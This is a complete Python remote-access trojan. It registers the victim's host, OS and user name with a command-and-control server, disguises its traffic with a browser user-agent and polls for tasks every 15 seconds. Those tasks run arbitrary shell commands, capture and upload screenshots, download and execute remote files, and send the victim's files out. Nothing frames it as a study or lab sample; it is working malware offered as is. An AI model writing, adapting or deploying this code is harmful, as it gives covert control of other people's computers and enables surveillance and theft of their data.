import io
import os
import platform
import subprocess
import time
import uuid

import requests
from PIL import ImageGrab

C2 = "http://203.0.113.210:8080"
BOT = uuid.uuid5(uuid.NAMESPACE_DNS, platform.node()).hex
S = requests.Session()
S.headers["User-Agent"] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"


def handle(task):
    kind, arg = task.get("t"), task.get("a", "")
    if kind == "cmd":
        r = subprocess.run(arg, shell=True, capture_output=True, timeout=120)
        return {"out": (r.stdout + r.stderr).decode(errors="replace")}
    if kind == "shot":
        buf = io.BytesIO()
        ImageGrab.grab(all_screens=True).save(buf, "PNG")
        S.post(f"{C2}/u/{BOT}", files={"f": ("s.png", buf.getvalue())}, timeout=30)
        return {"out": "ok"}
    if kind == "get":
        path = os.path.join(os.getenv("TEMP", "/tmp"), os.path.basename(arg))
        with open(path, "wb") as f:
            f.write(S.get(arg, timeout=60).content)
        subprocess.Popen([path], shell=True)
        return {"out": path}
    if kind == "up":
        with open(arg, "rb") as f:
            S.post(f"{C2}/u/{BOT}", files={"f": (os.path.basename(arg), f)}, timeout=60)
        return {"out": "sent"}
    return {"out": "?"}


S.post(f"{C2}/reg", json={"id": BOT, "host": platform.node(), "os": platform.platform(),
                          "user": os.getenv("USERNAME") or os.getenv("USER")}, timeout=10)
while True:
    try:
        for task in S.get(f"{C2}/t/{BOT}", timeout=30).json().get("tasks", []):
            S.post(f"{C2}/r/{BOT}", json={"id": task.get("id"), **handle(task)}, timeout=30)
    except Exception:
        pass
    time.sleep(15)
